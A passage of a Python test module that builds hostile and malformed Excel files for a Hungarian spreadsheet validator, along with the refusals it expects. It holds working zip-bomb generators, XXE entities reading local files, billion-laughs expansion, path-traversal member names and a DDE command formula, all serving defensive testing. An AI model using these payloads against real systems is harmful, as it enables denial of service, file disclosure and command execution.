"""The hostile tables: realistic attacks and office accidents, generated (never committed).

Each case writes one file from a valid "Kapcsolati kód adattáblázat" (the ministry tests'
staff, who are in the test registry) or from nothing, and says what kkod must do with it:
refuse it (exit 2) with a Hungarian message holding ``refused``, or read it (exit 0 or 1),
reporting the rules in ``rules``. Run as a script to write the whole corpus into a folder:

    .venv/bin/python -m tests.hostile.cases /tmp/hostile
"""

from __future__ import annotations

import io
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from kkod.table import layout
from kkod.table.sheet_xml import column_letters
from tests.ministry.conftest import STAFF, write_table

SHEET = "xl/worksheets/sheet1.xml"
SST = "xl/sharedStrings.xml"
NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
# A file whose content must never appear in anything kkod writes or prints (XXE).
SECRET_MARKER = "kkod-xxe-titok-7f3a9c"
GIB = 2**30


@dataclass(frozen=True)
class Case:
    name: str
    what: str  # the attack or accident, in a few words
    build: Callable[[Path, Path], bytes | None]  # (base table, target) → bytes, or None if written
    refused: str | None = None  # fragment of the Hungarian refusal (exit 2); None: it is read
    rules: tuple[str, ...] = ()  # rules validate must report when the file is read
    filename: str = "tabla.xlsx"
    big: bool = False  # takes a while to generate
    through_mail: bool = True  # can be attached to an email (a folder cannot)
    tags: frozenset[str] = field(default_factory=frozenset)


# --- zip surgery ----------------------------------------------------------------------------


def members(path: Path) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(path) as archive:
        return [(info, archive.read(info)) for info in archive.infolist()]


def rezip(
    path: Path,
    replace: dict[str, bytes | None] | None = None,
    add: dict[str, bytes] | None = None,
    method: int = zipfile.ZIP_DEFLATED,
) -> bytes:
    """``path``'s members, some replaced (``None``: left out), some added, as a new zip."""
    replace, add = replace or {}, add or {}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method, compresslevel=1) as new:
        for info, data in members(path):
            if info.filename in replace:
                data = replace[info.filename]
                if data is None:
                    continue
            new.writestr(info.filename, data)
        for name, data in add.items():
            new.writestr(name, data)
    return out.getvalue()


def sheet(path: Path, part: str = SHEET) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.read(part).decode()


def with_sheet(path: Path, change: Callable[[str], str], **kwargs) -> bytes:
    return rezip(path, {SHEET: change(sheet(path)).encode()}, **kwargs)


def set_cell(xml: str, ref: str, cell: str) -> str:
    """The sheet XML with cell ``ref`` written as ``cell`` (added to its row if missing)."""
    found = re.search(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', xml)
    if found:
        return xml[: found.start()] + cell + xml[found.end() :]
    row = re.sub(r"\D", "", ref)
    end = re.search(rf'<row r="{row}"[^>]*>.*?(</row>)', xml)
    assert end, ref
    return xml[: end.start(1)] + cell + xml[end.start(1) :]


def inline(ref: str, text: str, extra: str = "") -> str:
    space = ' xml:space="preserve"' if text != text.strip() or "\n" in text else ""
    return f'<c r="{ref}" t="inlineStr"{extra}><is><t{space}>{text}</t></is></c>'


def add_rows(xml: str, rows: str) -> str:
    return xml.replace("</sheetData>", rows + "</sheetData>")


def patch_headers(data: bytes, name: str, **fields: int) -> bytes:
    """The zip with ``name``'s local and central headers changed: ``flag``, ``method``,
    ``file_size`` (the declared uncompressed size)."""
    out = bytearray(data)
    offsets = {"flag": (6, 8, "<H"), "method": (8, 10, "<H"), "file_size": (22, 24, "<I")}
    encoded = name.encode()
    position = 0
    while (at := out.find(b"PK\x01\x02", position)) >= 0:
        (length,) = struct.unpack_from("<H", out, at + 28)
        if bytes(out[at + 46 : at + 46 + length]) == encoded:
            (local,) = struct.unpack_from("<I", out, at + 42)
            for key, value in fields.items():
                local_at, central_at, fmt = offsets[key]
                struct.pack_into(fmt, out, local + local_at, value)
                struct.pack_into(fmt, out, at + central_at, value)
        position = at + 4
    return bytes(out)


def deflated(
    unit: bytes, total: int, head: bytes = b"", tail: bytes = b""
) -> tuple[bytes, int, int]:
    """(raw deflate stream, size, CRC) of ``head``, ``unit`` repeated to about ``total`` bytes,
    and ``tail``: built fast (seconds for gigabytes). Each piece is compressed after a full
    flush, so the compressed bytes of one 4 MiB block of units can simply be repeated."""
    block = unit * max(1, min(1 << 22, total) // len(unit))
    count = max(1, total // len(block))

    def piece(data: bytes, mode: int) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
        return compressor.compress(data) + compressor.flush(mode)

    stream = piece(head, zlib.Z_FULL_FLUSH) + piece(block, zlib.Z_FULL_FLUSH) * count
    stream += piece(tail, zlib.Z_FINISH)
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    return stream, len(head) + len(block) * count + len(tail), zlib.crc32(tail, crc)


def zip_with_raw(path: Path, name: str, stream: tuple[bytes, int, int], keep=True) -> bytes:
    """``path``'s members (``keep``) plus a member ``name`` whose deflate stream is given as
    is: a member too big to build in memory (written with ZIP64 sizes when needed)."""
    raw, size, crc = stream
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for info, data in members(path) if keep else []:
            if info.filename != name:
                new.writestr(info.filename, data)
        info = zipfile.ZipInfo(name, date_time=(2026, 12, 6, 10, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        info.CRC, info.file_size, info.compress_size = crc, size, len(raw)
        zip64 = size > zipfile.ZIP64_LIMIT
        with new._lock:  # a member already compressed: no public call takes one
            info.header_offset = new.fp.tell()
            new.fp.write(info.FileHeader(zip64))
            new.fp.write(raw)
            new.filelist.append(info)
            new.NameToInfo[name] = info
            new.start_dir = new.fp.tell()
    return out.getvalue()


# --- builders -------------------------------------------------------------------------------


def _valid(base: Path, target: Path) -> bytes:
    return base.read_bytes()


def _sheet_bomb(base: Path, target: Path) -> bytes:
    text = sheet(base)
    head, tail = text.split("</sheetData>")
    return zip_with_raw(
        base,
        SHEET,
        deflated(b"<row/>", int(2.2 * GIB), head.encode(), f"</sheetData>{tail}".encode()),
    )


def _sst_bomb(base: Path, target: Path) -> bytes:
    head = f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS}">'.encode()
    return zip_with_raw(base, SST, deflated(b"<si><t>a</t></si>", int(2.2 * GIB), head, b"</sst>"))


def _unrelated_bomb(base: Path, target: Path) -> bytes:
    return zip_with_raw(base, "xl/media/film.bin", deflated(b"\0", int(2.2 * GIB)))


def _ratio_bomb(base: Path, target: Path) -> bytes:
    return zip_with_raw(base, "xl/media/kep.bin", deflated(b"\0", 64 * 2**20))


def _lying_size(base: Path, target: Path) -> bytes:
    text = sheet(base)
    head, tail = text.split("</sheetData>")
    rows = "".join(
        f'<row r="{n}"><c r="D{n}" t="inlineStr"><is><t>x</t></is></c></row>'
        for n in range(20, 400_000)
    )
    data = rezip(base, {SHEET: (head + rows + "</sheetData>" + tail).encode()})
    return patch_headers(data, SHEET, file_size=len(text))


def _many_members(base: Path, target: Path) -> bytes:
    return rezip(base, add={f"xl/media/kep{n}.png": b"" for n in range(20_000)})


def _overlapping(base: Path, target: Path) -> bytes:
    """A valid table and 300 central-directory entries sharing one compressed 900 KiB kernel
    (each small enough to pass the ratio check, 270 MiB together)."""
    data = zip_with_raw(base, "xl/media/kernel.bin", deflated(b"\0", 900 * 2**10))
    archive = zipfile.ZipFile(io.BytesIO(data))
    kernel = archive.getinfo("xl/media/kernel.bin")
    eocd = data.rfind(b"PK\x05\x06")
    entries, cd_size, cd_offset = struct.unpack_from("<HII", data, eocd + 10)
    central = data[cd_offset : cd_offset + cd_size]
    start = 0
    kernel_entry = b""
    while (at := central.find(b"PK\x01\x02", start)) >= 0:
        n, e, c = struct.unpack_from("<HHH", central, at + 28)
        entry = central[at : at + 46 + n + e + c]
        if entry[46 : 46 + n] == kernel.filename.encode():
            kernel_entry = entry
        start = at + 4
    copies = [
        kernel_entry[:28] + struct.pack("<H", len(name)) + kernel_entry[30:46] + name
        for name in (f"xl/media/kep{n:03d}.bin".encode() for n in range(300))
    ]
    new_central = central + b"".join(copies)
    end = struct.pack(
        "<4s4H2LH",
        b"PK\x05\x06",
        0,
        0,
        entries + 300,
        entries + 300,
        len(new_central),
        cd_offset,
        0,
    )
    return data[:cd_offset] + new_central + end


def _flagged(**fields: int):
    def build(base: Path, target: Path) -> bytes:
        return patch_headers(base.read_bytes(), SHEET, **fields)

    return build


def _method(method: int):
    def build(base: Path, target: Path) -> bytes:
        return rezip(base, method=method)

    return build


def _member_named(name: str):
    def build(base: Path, target: Path) -> bytes:
        return rezip(base, add={name: b"<x/>"})

    return build


def _duplicate_sheet(base: Path, target: Path) -> bytes:
    data = base.read_bytes()
    decoy = set_cell(sheet(base), "D2", inline("D2", "Hamis Név"))
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        import warnings

        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            archive.writestr(SHEET, decoy)
    return out.getvalue()


def _truncated(base: Path, target: Path) -> bytes:
    data = base.read_bytes()
    return data[: len(data) // 2]


def _empty(base: Path, target: Path) -> bytes:
    return b""


def _zip_without_workbook(base: Path, target: Path) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("tabla.csv", "Sorszám;Viselt név\n1;Kiss Anna\n")
        archive.writestr("olvass_el.txt", "A táblázat mellékelve.")
    return out.getvalue()


def _docx(base: Path, target: Path) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    return out.getvalue()


def _without(name: str):
    def build(base: Path, target: Path) -> bytes:
        return rezip(base, {name: None})

    return build


def _rels(change: Callable[[str], str]):
    def build(base: Path, target: Path) -> bytes:
        rels = "xl/_rels/workbook.xml.rels"
        return rezip(base, {rels: change(sheet(base, rels)).encode()})

    return build


def _fixture(name: str):
    def build(base: Path, target: Path) -> bytes:
        return (Path(__file__).parents[1] / "table" / "fixtures" / name).read_bytes()

    return build


def _encrypted(base: Path, target: Path) -> bytes:
    from msoffcrypto.format.ooxml import OOXMLFile

    out = io.BytesIO()
    with open(base, "rb") as plain:
        OOXMLFile(plain).encrypt("jelszo123", out)
    return out.getvalue()


def _xlsm(base: Path, target: Path) -> bytes:
    types = sheet(base, "[Content_Types].xml").replace(
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )
    return rezip(
        base,
        {"[Content_Types].xml": types.encode()},
        add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"},
    )


def _xlsb(base: Path, target: Path) -> bytes:
    return rezip(base, {"xl/workbook.xml": None}, add={"xl/workbook.bin": b"\x83\x01\x00"})


def _text(content: str, encoding: str = "utf-8"):
    def build(base: Path, target: Path) -> bytes:
        return content.encode(encoding)

    return build


CSV = "Sorszám;Belső azonosító;Megjegyzés;Viselt név\n1;HR-001;;Kiss Anna\n"
HTML = (
    "<html xmlns:x='urn:schemas-microsoft-com:office:excel'><head><meta charset='utf-8'></head>"
    "<body><table><tr><td>Sorszám</td><td>Viselt név</td></tr><tr><td>1</td><td>Kiss Anna</td>"
    "</tr></table></body></html>"
)
SPREADSHEET_ML = (
    '<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
    '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Munka1">'
    '<Table><Row><Cell><Data ss:Type="String">Sorszám</Data></Cell></Row></Table></Worksheet></Workbook>'
)


def _pdf(base: Path, target: Path) -> bytes:
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def _png(base: Path, target: Path) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\0" * 64


def _lock_file(base: Path, target: Path) -> bytes:
    owner = "Varga Judit"
    return bytes([len(owner)]) + owner.encode("latin-1") + b" " * (54 - len(owner)) + b"\0" * 110


def _folder(base: Path, target: Path) -> None:
    target.mkdir()
    (target / "sheet1.xml").write_text("<worksheet/>")


def _xml_part(part: str, change: Callable[[str], str]):
    def build(base: Path, target: Path) -> bytes:
        return rezip(base, {part: change(sheet(base, part)).encode()})

    return build


def _xxe(part: str, secret: Path):
    def change(xml: str) -> str:
        body = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
        dtd = f'<!DOCTYPE x [<!ENTITY titok SYSTEM "file://{secret}">]>'
        if part == SHEET:
            body = set_cell(body, "C2", '<c r="C2" t="inlineStr"><is><t>&titok;</t></is></c>')
        return '<?xml version="1.0" encoding="UTF-8"?>' + dtd + body

    return _xml_part(part, change)


def _laughs(base: Path, target: Path) -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol%s;" % ("" if i == 1 else i - 1)) * 10}">' for i in range(1, 10)
    )
    sst = (
        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE sst [{entities}]>'
        f'<sst xmlns="{NS}" count="1" uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    )
    xml = set_cell(sheet(base), "C2", '<c r="C2" t="s"><v>0</v></c>')
    return rezip(base, {SHEET: xml.encode()}, add={SST: sst.encode()})


def _encoded(encoding: str, declare: bool = True):
    def build(base: Path, target: Path) -> bytes:
        xml = sheet(base)
        body = xml.split("?>", 1)[1] if xml.startswith("<?xml") else xml
        decl = f'<?xml version="1.0" encoding="{encoding}"?>' if declare else ""
        text = decl + body
        return rezip(base, {SHEET: text.encode(encoding if encoding != "utf-16" else "utf-16")})

    return build


def _raw_bytes_in_cell(raw: bytes):
    def build(base: Path, target: Path) -> bytes:
        xml = set_cell(sheet(base), "C2", '<c r="C2" t="inlineStr"><is><t>XX</t></is></c>').encode()
        return rezip(base, {SHEET: xml.replace(b"XX", raw)})

    return build


def _cell(ref: str, cell: str):
    return _sheet_change(lambda xml: set_cell(xml, ref, cell))


def _sheet_change(change: Callable[[str], str]):
    def build(base: Path, target: Path) -> bytes:
        return with_sheet(base, change)

    return build


def _compact_rows(count: int, *, data_rows: int, first: int = 2, numbered: bool = True):
    """A sheet of ``count`` rows after the header: the first ``data_rows`` filled (shared
    strings), the rest with only a Sorszám (or nothing but a style)."""

    def build(base: Path, target: Path) -> bytes:
        text = sheet(base)
        head, tail = text.split("<sheetData>")
        header = re.search(r'<row r="1".*?</row>', text, re.S)[0]
        person = STAFF[0][1]
        strings = [
            person.viselt_nev,
            person.szuletesi_nev,
            person.anyja_szuletesi_neve,
            person.szuletesi_hely,
            person.szuletesi_ido,
        ]
        sst = (
            f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS}" count="{len(strings)}" '
            f'uniqueCount="{len(strings)}">'
            + "".join(f"<si><t>{s}</t></si>" for s in strings)
            + "</sst>"
        )
        parts = [head, "<sheetData>", header]
        filled = (
            '<row r="{n}"><c r="A{n}"><v>{m}</v></c><c r="B{n}" t="inlineStr"><is><t>T{n}</t>'
            "</is></c>"
            + "".join(f'<c r="{col}{{n}}" t="s"><v>{i}</v></c>' for i, col in enumerate("DFGHI"))
            + "</row>"
        )
        rest = (
            '<row r="{n}"><c r="A{n}"><v>{m}</v></c></row>'
            if numbered
            else '<row r="{n}" s="3" customFormat="1" ht="15" customHeight="1"/>'
        )
        last_filled = first + data_rows
        parts += [filled.format(n=n, m=n - 1) for n in range(first, last_filled)]
        parts += [rest.format(n=n, m=n - 1) for n in range(last_filled, first + count)]
        parts.append("</sheetData>" + tail.split("</sheetData>", 1)[1])
        return rezip(base, {SHEET: "".join(parts).encode()}, add={SST: sst.encode()})

    return build


def _shared_strings(count: int, unique_count: int | None = None):
    def build(base: Path, target: Path) -> bytes:
        declared = unique_count if unique_count is not None else count
        sst = (
            f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS}" count="{declared}" uniqueCount="{declared}">'
            + "".join(f"<si><t>s{n}</t></si>" for n in range(count))
            + "</sst>"
        )
        xml = set_cell(sheet(base), "C2", '<c r="C2" t="s"><v>0</v></c>')
        return rezip(base, {SHEET: xml.encode()}, add={SST: sst.encode()})

    return build


def _wide(header: bool):
    def change(xml: str) -> str:
        row = 1 if header else 2
        cells = "".join(
            f'<c r="{column_letters(c)}{row}" t="inlineStr"><is><t>x{c}</t></is></c>'
            for c in range(10, 16_385)
        )
        return re.sub(
            rf'(<row r="{row}"[^>]*>.*?)(</row>)',
            lambda m: m[1] + cells + m[2],
            xml,
            count=1,
            flags=re.S,
        )

    return _sheet_change(change)


def _long_cells(length: int):
    def change(xml: str) -> str:
        for letter in "DFGH":
            xml = set_cell(xml, f"{letter}2", inline(f"{letter}2", "á" * length))
        return xml

    return _sheet_change(change)


def _header(change: Callable[[list[str]], list[str]], row: int = 1):
    def build(base: Path, target: Path) -> bytes:
        import openpyxl

        wb = openpyxl.load_workbook(base)
        ws = wb.worksheets[0]
        headers = change([c.header for c in layout.COLUMNS])
        if row != 1:
            ws.insert_rows(1, row - 1)
        for index, text in enumerate(headers, start=1):
            ws.cell(row=row, column=index, value=text)
        wb.save(target)
        return None

    return build


def _sheets(arrange: Callable) -> Callable:
    def build(base: Path, target: Path) -> None:
        import openpyxl

        wb = openpyxl.load_workbook(base)
        arrange(wb)
        wb.save(target)

    return build


def _another_sheet_first(wb) -> None:
    summary = wb.create_sheet("Összesítő", 0)
    summary["A1"], summary["B1"] = "Létszám", 6


def _two_tables(wb) -> None:
    old = wb.copy_worksheet(wb.worksheets[0])
    old.title = "Tavalyi"
    wb.move_sheet(old, offset=-2)


def _hidden_table(wb) -> None:
    wb.worksheets[0].sheet_state = "hidden"
    wb.create_sheet("Munka2", 0)["A1"] = "Üres"
    wb.active = 0


def _guide_first(wb) -> None:
    wb.move_sheet(layout.GUIDE_SHEET_TITLE, offset=-1)


def _chart_only(wb) -> None:
    from openpyxl.chart import BarChart

    chart = wb.create_chartsheet("Diagram", 0)
    chart.add_chart(BarChart())
    for ws in list(wb.worksheets):
        wb.remove(ws)


def _cells(**values: object):
    def arrange(wb) -> None:
        ws = wb.worksheets[0]
        for ref, value in values.items():
            ws[ref] = value

    return _sheets(arrange)


def _merged(wb) -> None:
    wb.worksheets[0].merge_cells("D3:F3")


def _with_date_style(base: Path) -> tuple[str, int]:
    """The base's styles.xml with one more cell style, a date format, and that style's index."""
    styles = sheet(base, "xl/styles.xml")
    count = int(re.search(r'<cellXfs count="(\d+)"', styles)[1])
    styles = styles.replace(f'<cellXfs count="{count}">', f'<cellXfs count="{count + 1}">').replace(
        "</cellXfs>",
        '<xf numFmtId="14" fontId="0" fillId="0" borderId="0" applyNumberFormat="1" xfId="0"/></cellXfs>',
    )
    return styles, count


def _date1904(base: Path, target: Path) -> bytes:
    workbook = sheet(base, "xl/workbook.xml").replace("<workbookPr/>", '<workbookPr date1904="1"/>')
    styles, style = _with_date_style(base)
    # 1985-03-12 is serial 29657 in the 1904 system (31119 in the 1900 one).
    xml = set_cell(sheet(base), "I2", f'<c r="I2" s="{style}"><v>29657</v></c>')
    return rezip(
        base,
        {
            "xl/workbook.xml": workbook.encode(),
            "xl/styles.xml": styles.encode(),
            SHEET: xml.encode(),
        },
    )


def _date_styled(value: str):
    def build(base: Path, target: Path) -> bytes:
        styles, style = _with_date_style(base)
        xml = set_cell(sheet(base), "I2", f'<c r="I2" s="{style}"><v>{value}</v></c>')
        return rezip(base, {"xl/styles.xml": styles.encode(), SHEET: xml.encode()})

    return build


# --- the corpus -----------------------------------------------------------------------------

FORMULA_TEXTS = {
    "B2": '=HYPERLINK("http://pelda.hu/?"&D2,"Részletek")',
    "C2": "+cmd|' /C calc'!A0",
    "C3": "-2+3",
    "C4": "@SUM(1+1)",
}


def _formula_texts(xml: str) -> str:
    """FORMULA_TEXTS written as text cells (as a user types them with a leading apostrophe)."""
    for ref, text in FORMULA_TEXTS.items():
        escaped = text.replace("&", "&amp;").replace("<", "&lt;")
        xml = set_cell(xml, ref, inline(ref, escaped, ' s="3"'))
    return xml


def corpus(secret: Path) -> list[Case]:
    """Every case; ``secret`` is the local file the XXE cases name."""
    c = Case
    return [
        c("valid", "the ministry tests' table, untouched", _valid, rules=()),
        # zip bombs and zip tricks
        c("bomb_sheet", "the sheet XML inflates to 2.2 GiB", _sheet_bomb, "kibontva", big=True),
        c(
            "bomb_shared_strings",
            "sharedStrings.xml inflates to 2.2 GiB",
            _sst_bomb,
            "kibontva",
            big=True,
        ),
        c(
            "bomb_unrelated_member",
            "a valid table plus a 2.2 GiB unrelated member",
            _unrelated_bomb,
            "kibontva",
            big=True,
        ),
        c(
            "bomb_ratio",
            "a 64 MiB member of zeros (ratio ~1000)",
            _ratio_bomb,
            "zip-bomba",
            big=True,
        ),
        c(
            "bomb_overlapping",
            "300 entries sharing one 100 MiB kernel",
            _overlapping,
            "átfedő",
            big=True,
        ),
        c(
            "bomb_lying_size",
            "the sheet's stream inflates past its declared size",
            _lying_size,
            "nem akkora",
        ),
        c("many_members", "20,000 zip members", _many_members, "fájlt tartalmaz"),
        c(
            "encrypted_member",
            "a member flagged as encrypted (re-zipped with a password)",
            _flagged(flag=1),
            "jelszóval titkosított",
        ),
        c(
            "deflate64",
            "compressed with Deflate64, as Windows Explorer does",
            _flagged(method=9),
            "Deflate64",
        ),
        c("bzip2", "re-zipped with BZIP2 (7-Zip)", _method(zipfile.ZIP_BZIP2), "BZIP2"),
        c("lzma", "re-zipped with LZMA (7-Zip)", _method(zipfile.ZIP_LZMA), "LZMA"),
        c("ppmd", "compressed with PPMd (7-Zip)", _flagged(method=98), "PPMd"),
        c(
            "path_traversal",
            "a member named ../../etc/cron.d/x",
            _member_named("../../etc/cron.d/kkod"),
            "szabálytalan nevű",
        ),
        c(
            "absolute_member",
            "a member named /etc/passwd",
            _member_named("/etc/passwd"),
            "szabálytalan nevű",
        ),
        c(
            "duplicate_member",
            "the sheet twice under one name (a decoy)",
            _duplicate_sheet,
            "két tag",
        ),
        c("truncated", "half a workbook (an interrupted download)", _truncated, "csonka"),
        c("empty", "an empty file", _empty, "üres fájl"),
        c(
            "zip_without_workbook",
            "a zip holding a CSV and a text file",
            _zip_without_workbook,
            "nincs benne Excel-munkafüzet",
        ),
        c("docx", "a Word document named .xlsx", _docx, "Word-dokumentum"),
        c(
            "missing_workbook_rels",
            "no xl/_rels/workbook.xml.rels",
            _without("xl/_rels/workbook.xml.rels"),
            "workbook.xml.rels",
        ),
        c(
            "missing_sheet_part",
            "the sheet relation points to a missing part",
            _without(SHEET),
            "szabálytalan helyre",
        ),
        c(
            "decoy_sheet_target",
            "a relation whose target calamine and OPC resolve differently",
            _rels(lambda x: x.replace("worksheets/sheet1.xml", "xl/worksheets/sheet1.xml")),
            "szabálytalan helyre",
        ),
        c(
            "external_sheet",
            "a sheet relation to an external URL",
            _rels(
                lambda x: x.replace(
                    'Target="worksheets/sheet1.xml"',
                    'Target="http://pelda.hu/sheet1.xml" TargetMode="External"',
                ).replace(
                    'Target="/xl/worksheets/sheet1.xml"',
                    'Target="http://pelda.hu/sheet1.xml" TargetMode="External"',
                )
            ),
            "szabálytalan helyre",
        ),
        # what the file really is
        c("legacy_xls", "an Excel 97-2003 workbook", _fixture("lo_filled.xls"), "Excel 97–2003"),
        c(
            "encrypted_workbook",
            "a password-protected workbook (OLE2)",
            _encrypted,
            "jelszóval védett",
        ),
        c("ods", "an OpenDocument spreadsheet", _fixture("lo_filled.ods"), "OpenDocument"),
        c("xlsm", "a macro-enabled workbook", _xlsm, "makrókat"),
        c("xlsb", "a binary workbook", _xlsb, "bináris"),
        c("csv_renamed", "a CSV file named .xlsx", _text(CSV), "CSV"),
        c(
            "csv_utf16",
            "Excel's 'Unicode text' export named .xlsx",
            _text("\ufeff" + CSV, "utf-16-le"),
            "CSV",
        ),
        c("csv_cp1250", "a Windows-1250 CSV named .xlsx", _text(CSV, "cp1250"), "CSV"),
        c("html", "a web page saved as .xlsx", _text(HTML), "HTML"),
        c(
            "spreadsheet_ml",
            "an Excel 2003 XML spreadsheet",
            _text(SPREADSHEET_ML),
            "Excel 2003 XML",
        ),
        c("pdf", "a PDF named .xlsx", _pdf, "PDF"),
        c("png", "a picture named .xlsx", _png, "PNG"),
        c("lock_file", "Excel's lock file", _lock_file, "zárolási fájlja", filename="~$tabla.xlsx"),
        c("folder", "a folder named tabla.xlsx", _folder, "mappa", through_mail=False),
        # XML attacks
        c(
            "xxe_sheet",
            "an external entity naming a local file, in the sheet",
            _xxe(SHEET, secret),
            "DTD",
            tags=frozenset({"xxe"}),
        ),
        c(
            "xxe_workbook",
            "an external entity in workbook.xml",
            _xxe("xl/workbook.xml", secret),
            "DTD",
            tags=frozenset({"xxe"}),
        ),
        c("billion_laughs", "entity expansion in sharedStrings.xml", _laughs, "DTD"),
        c(
            "sheet_windows_1250",
            "the sheet XML declared windows-1250",
            _encoded("windows-1250"),
            "windows-1250",
        ),
        c("sheet_utf16", "the sheet XML in UTF-16", _encoded("utf-16"), "UTF-16"),
        c(
            "sheet_latin2_undeclared",
            "Latin-2 bytes in a UTF-8 sheet",
            _raw_bytes_in_cell("Kov\xe1cs \xf5r".encode("latin-1")),
            "UTF-8",
        ),
        c(
            "invalid_xml_char",
            "a control character reference (&#1;) in a cell",
            _raw_bytes_in_cell(b"Kiss&#1;Anna"),
            None,
            rules=(),
        ),
        c(
            "broken_xml",
            "the sheet XML cut in half",
            _sheet_change(lambda x: x[: len(x) // 2]),
            "nem olvasható",
        ),
        # extent
        c(
            "cell_xfd1048576",
            "a value at XFD1048576 (the last cell)",
            _sheet_change(
                lambda x: add_rows(x, '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
            ),
            "használt terület",
        ),
        c(
            "row_1048577",
            "a row numbered 1,048,577",
            _sheet_change(
                lambda x: add_rows(
                    x, '<row r="1048577"><c r="D1048577" t="inlineStr"><is><t>x</t></is></c></row>'
                )
            ),
            "1 048 576",
        ),
        c(
            "row_5000_digits",
            "a row number of 5000 digits",
            _sheet_change(lambda x: add_rows(x, f'<row r="{"9" * 5000}"><c><v>1</v></c></row>')),
            "sor",
        ),
        c(
            "cells_without_r",
            "30,000 cells without a reference in one row",
            _sheet_change(
                lambda x: add_rows(x, '<row r="30">' + "<c/>" * 30_000 + "<c><v>1</v></c></row>")
            ),
            "XFD1048576",
        ),
        c(
            "rows_1048576",
            "the table filled down all 1,048,575 rows",
            _compact_rows(1_048_575, data_rows=1_048_575),
            "kibontva",
            big=True,
        ),
        c(
            "rows_250k",
            "250,000 filled rows, more than a table may hold",
            _compact_rows(250_000, data_rows=250_000),
            "adatsor",
            big=True,
        ),
        c(
            "numbered_rows_300k",
            "a 300,000-row numbered template with 6 rows filled",
            _compact_rows(300_000, data_rows=6),
            None,
            rules=("E11",),
            big=True,
        ),
        c(
            "formatted_rows_1m",
            "5 rows filled, rows formatted down to row 1,048,576",
            _compact_rows(1_048_574, data_rows=5, numbered=False),
            None,
            rules=("E11",),
            big=True,
        ),
        c(
            "columns_16384",
            "a data row with values in all 16,384 columns",
            _wide(header=False),
            None,
        ),
        c(
            "header_16384",
            "a header row across all 16,384 columns",
            _wide(header=True),
            "nem várt fejléc",
        ),
        c("cells_32767", "32,767-character names", _long_cells(32_767), None, rules=("E14",)),
        c("cells_40000", "a 40,000-character cell", _long_cells(40_000), "karakteres"),
        c(
            "shared_strings_1m",
            "a million shared strings",
            _shared_strings(1_000_000),
            None,
            big=True,
        ),
        c(
            "shared_strings_3m",
            "three million shared strings",
            _shared_strings(3_000_000),
            "szöveget",
            big=True,
        ),
        c(
            "shared_strings_declared",
            "sharedStrings declaring 99,999,999,999 strings",
            _shared_strings(1, 99_999_999_999),
            "szöveget",
        ),
        # cells
        c(
            "formula_input",
            "a formula in column D",
            _cells(D3='=CONCATENATE("Tóth ","Pálné")'),
            None,
            rules=("E09",),
        ),
        c(
            "dde",
            "a DDE formula in column G",
            _cells(G4="=cmd|' /C calc'!A0"),
            None,
            rules=("E09",),
        ),
        c(
            "formula_text",
            "text that looks like formulas (=, +, -, @) in B and C",
            _sheet_change(_formula_texts),
            None,
            tags=frozenset({"formula_text"}),
        ),
        c(
            "header_renamed",
            "column D's header renamed",
            _header(lambda h: [*h[:3], "Név", *h[4:]]),
            "„Név”",
        ),
        c(
            "header_swapped",
            "columns F and G swapped",
            _header(lambda h: [*h[:5], h[6], h[5], *h[7:]]),
            "fejléce",
        ),
        c(
            "header_extra",
            "an extra header in column J",
            _header(lambda h: [*h, "Adóazonosító"]),
            "nem várt fejléc",
        ),
        c("header_row_3", "the header in row 3", _header(lambda h: h, row=3), "3. sorban"),
        c(
            "table_second_sheet",
            "a summary sheet before the table",
            _sheets(_another_sheet_first),
            None,
        ),
        c(
            "two_tables",
            "last year's copy of the table on another sheet",
            _sheets(_two_tables),
            "több munkalapon",
        ),
        c("hidden_table", "the table on a hidden sheet", _sheets(_hidden_table), "rejtett"),
        c("guide_first", "kkod's guide sheet dragged in front", _sheets(_guide_first), None),
        c("chart_only", "only a chart sheet", _sheets(_chart_only), "diagramlap"),
        c("merged_cells", "D3:F3 merged", _sheets(_merged), None, rules=("E01",)),
        c(
            "rich_text",
            "a name written with two formats (rich text)",
            _cell(
                "D2",
                '<c r="D2" t="inlineStr"><is><r><rPr><b/></rPr><t>Kiss </t></r><r><t>Anna</t></r></is></c>',
            ),
            None,
        ),
        c(
            "nfd_accents",
            "decomposed accents (NFD)",
            _cells(F3="Varga E\u0301va"),
            None,
            rules=("W11",),
        ),
        c(
            "zero_width_bidi",
            "zero-width and bidi control characters",
            _cells(D2="Kiss\u200b Anna", G3="Fekete\u202eIlona"),
            None,
            rules=("W02", "E08"),
        ),
        c(
            "homoglyphs",
